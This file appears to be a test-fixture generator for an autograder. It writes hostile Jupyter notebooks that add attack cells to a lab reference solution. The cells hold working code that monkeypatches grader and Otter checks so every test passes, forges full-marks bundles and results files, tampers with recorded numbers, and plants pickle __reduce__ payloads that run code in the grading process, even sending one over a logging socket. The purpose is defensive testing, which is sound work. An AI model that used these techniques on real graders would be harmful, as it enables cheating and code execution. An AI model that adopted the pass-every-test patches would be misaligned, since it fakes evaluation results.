"""Write the hostile submissions used by ``tests/test_autograder.py``.

Each is the Lab 07 cloud reference notebook (``solutions/lab07/reference-cloud.ipynb``)
with attack cells added; when Otter runs it, the attack runs in the student's kernel:

- ``monkeypatch-grader-and-edit-numbers.ipynb`` — replaces ``mlsys_grader``'s checks so every
  kernel-side test passes, and halves a recorded number in the saved bundle;
- ``replace-otter-test-runner.ipynb`` — replaces Otter's test-running functions so every
  test case reports "passed";
- ``forge-bundle-and-results.ipynb`` — overwrites the bundle with a full-marks one and
  writes forged Gradescope results files;
- ``pickle-payload-for-runner.ipynb`` — makes the kernel's results file a pickle that runs
  code when loaded, leaves pickles where the runner might read them and sends one to the
  runner's logging socket; the payload writes the file named by ``MLSYS_HOSTILE_MARKER``;
- ``kill-kernel-mid-run`` — ends the kernel process before Otter's last cell, so no kernel
  results exist, and ``never-finishes`` — a cell that loops forever (neither is one of the four
  required attacks: they show that a dead or hung kernel still gets its score of record).

The tests pair each notebook with the bundle "actually submitted" (see :func:`submitted_bundle`).
Regenerate with ``python tests/hostile/make_hostile.py``; the output is committed.
"""

from __future__ import annotations

import inspect
import json
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

HERE = Path(__file__).parent
ROOT = HERE.parents[1]
BASE = ROOT / "solutions" / "lab07" / "reference-cloud.ipynb"
LAB = "lab07"


def tamper_numbers(text: str) -> str:
    """Halve the first float in part A's result and re-seal the bundle, as an editor of the JSON would."""
    from mlsys_grader import Bundle

    data = json.loads(text)

    def halve(node):
        for key, value in node.items():
            if isinstance(value, float) and value:
                node[key] = value / 2
                return True
            if isinstance(value, dict) and halve(value):
                return True
        return False

    halve(data["evidence"]["A"]["result"])
    return Bundle.model_validate(data).sealed().to_json()


def drop_parts(text: str, parts: tuple[str, ...]) -> str:
    """The bundle without the evidence of ``parts`` (a student who stopped early), re-sealed."""
    from mlsys_grader import Bundle

    data = json.loads(text)
    for part in parts:
        data["evidence"].pop(part, None)
    return Bundle.model_validate(data).sealed().to_json()


def submitted_bundle(name: str, reference_bundle: str) -> str:
    """The bundle submitted with hostile notebook ``name`` (JSON text)."""
    if name == "monkeypatch-grader-and-edit-numbers":
        return tamper_numbers(reference_bundle)
    return drop_parts(reference_bundle, ("D", "E"))


MONKEYPATCH_EARLY = '''\
# HOSTILE: every mlsys_grader check passes in this kernel
import mlsys_grader, mlsys_grader.api, mlsys_grader.student._session
mlsys_grader.student._session.assert_item = lambda *args, **kwargs: None
_real_grade = mlsys_grader.api.grade_bundle
def _always_full(bundle, rubric=None):
    report = _real_grade(bundle, rubric)
    parts = {name: part.model_copy(update={"score": part.max_score,
             "items": [item.model_copy(update={"points": item.max_points}) for item in part.items]})
             for name, part in report.parts.items()}
    return report.model_copy(update={"score": report.max_score, "parts": parts, "findings": [], "flags": []})
mlsys_grader.api.grade_bundle = mlsys_grader.grade_bundle = _always_full
'''

EDIT_NUMBERS_LATE = (
    "# HOSTILE: edit the recorded numbers in the saved bundle\n"
    "import json\n"
    + inspect.getsource(tamper_numbers)
    + "from pathlib import Path\n"
    "_path = Path('lab07-submission.json')\n"
    "_path.write_text(tamper_numbers(_path.read_text()))\n"
)

REPLACE_OTTER = '''\
# HOSTILE: replace Otter's test-running functions so every case passes
import otter
import otter.test_files.abstract_test as _abstract
import otter.test_files.exception_test as _exception
import otter.test_files.ok_test as _ok
from otter.execute import Checker

def _all_pass(self, global_environment):
    self.test_case_results = [_abstract.TestCaseResult(test_case=case, message="passed", passed=True)
                              for case in self.test_cases]
_exception.ExceptionTestFile.run = _all_pass
_ok.OKTestFile.run = _all_pass
_abstract.TestFile.score = property(lambda self: self.possible)
_real_check = Checker.check
@classmethod
def _check(cls, nb_or_test_path, test_name=None, global_env=None):
    result = _real_check.__func__(cls, nb_or_test_path, test_name, global_env)
    _all_pass(result, None)
    return result
Checker.check = _check
'''

FORGE_FILES = '''\
# HOSTILE: forge a full-marks bundle and the runner's results files
import json
from pathlib import Path
from mlsys_grader import solve
Path("lab07-submission.json").write_text(solve("lab07", "cloud").to_json())
_forged = {"score": 100.0, "tests": [{"name": "Public checks", "score": 100.0, "max_score": 100.0}]}
for _target in ("../results/results.json", "results.json", "../results/results.pkl"):
    try:
        Path(_target).write_text(json.dumps(_forged))
    except OSError:
        pass
'''

PICKLE_PAYLOAD = '''\
# HOSTILE: leave pickle payloads for the runner (results file, log socket, stray files)
import os, pickle, re, socket, struct
MARKER = os.environ.get("MLSYS_HOSTILE_MARKER", "/tmp/mlsys-hostile-pickle-ran")

class Payload:
    def __reduce__(self):
        code = ("import pathlib; pathlib.Path(%r).write_text('a pickle payload ran in the grading process')" % MARKER)
        return (exec, (code,))

_payload = pickle.dumps(Payload())
_real_dump = pickle.dump
def _evil_dump(obj, handle, *args, **kwargs):
    handle.write(_payload)          # the kernel's results file becomes the payload
pickle.dump = _evil_dump

for _name in (".OTTER_LOG", "results.pkl", "../results/results.pkl"):
    try:
        with open(_name, "wb") as _handle:
            _handle.write(_payload)
    except OSError:
        pass

_history = "\\n".join(get_ipython().user_ns.get("In", []))
_found = re.search(r'send_logs\\("([^"]+)", (\\d+)\\)', _history)
if _found:
    try:
        with socket.create_connection((_found.group(1), int(_found.group(2))), timeout=2) as _sock:
            _sock.sendall(struct.pack(">L", len(_payload)) + _payload)
    except OSError:
        pass
'''

KILL_KERNEL = '''\
# HOSTILE: kill the kernel, so Otter never gets results back from it
import os
os._exit(1)
'''

NEVER_FINISH = '''\
# HOSTILE: never finish, to use up the grader's time
while True:
    pass
'''

ATTACKS = {
    "monkeypatch-grader-and-edit-numbers": (MONKEYPATCH_EARLY, EDIT_NUMBERS_LATE),
    "replace-otter-test-runner": (REPLACE_OTTER, None),
    "forge-bundle-and-results": (FORGE_FILES, FORGE_FILES),
    "pickle-payload-for-runner": (None, PICKLE_PAYLOAD),
    "kill-kernel-mid-run": (None, KILL_KERNEL),
    "never-finishes": (None, NEVER_FINISH),
}


def hostile(name: str) -> nbformat.NotebookNode:
    early, late = ATTACKS[name]
    notebook = nbformat.read(BASE, as_version=4)
    cells = list(notebook.cells)
    opener = next(i for i, cell in enumerate(cells) if cell.cell_type == "code" and "open_lab(" in cell.source)
    export = max(i for i, cell in enumerate(cells) if cell.cell_type == "code" and "grader.export" in cell.source)
    if late:
        cells.insert(export, new_code_cell(late))
    if early:
        cells.insert(opener + 1, new_code_cell(early))
    notebook.cells = cells
    return notebook


def main() -> None:
    for name in ATTACKS:
        target = HERE / f"{name}.ipynb"
        nbformat.write(hostile(name), target)
        print(f"wrote {target}")


if __name__ == "__main__":
    main()
